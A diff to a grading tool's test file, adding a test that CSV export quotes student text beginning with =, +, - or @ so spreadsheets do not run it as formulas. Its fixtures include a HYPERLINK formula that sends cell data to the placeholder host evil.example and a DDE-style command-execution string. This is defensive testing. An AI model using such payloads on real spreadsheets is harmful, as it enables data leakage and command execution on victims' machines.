@@ -341,3 +341,23 @@ def test_row_2_in_copy_mode_one_file_is_capped_by_rlimit_fsize(tmp_path, monkeyp
     report = grade.grade(path, timeout=180, isolation="copy")
     line = next(error for error in report.errors if "home:" in error)
     assert "64 MB, then File too large" in line, line
+
+
+def test_csv_formula_injection_student_text_starting_with_a_formula_sign_gets_a_quote(tmp_path):
+    """Not a row of the review (issue 22 asks for it): a spreadsheet runs a cell starting with = + - @ as a formula."""
+    report = grade.Report(
+        Path("=HYPERLINK(1).ipynb"),  # a submission's own name, as the teacher's batch lists it
+        [
+            grade.Verdict("Exercise 0.1", "failed", '=HYPERLINK("http://evil.example/?"&A1, "grade")'),
+            grade.Verdict("Exercise 0.2", "failed", "+cmd|' /C calc'!A0"),
+            grade.Verdict("Exercise 0.3", "failed", "-2+3"),
+            grade.Verdict("Exercise 0.4", "failed", "@SUM(A1:A9)"),
+            grade.Verdict("Exercise 0.5", "passed", "passed: fine"),
+        ],
+        [],
+        1.0,
+    )
+    grade.write_csv([report], tmp_path / "g.csv")
+    rows = list(csv.DictReader(open(tmp_path / "g.csv", encoding="utf-8")))
+    assert [r["message"][:2] for r in rows] == ["'=", "'+", "'-", "'@", "pa"], rows
+    assert {r["notebook"] for r in rows} == {"'=HYPERLINK(1).ipynb"}, rows
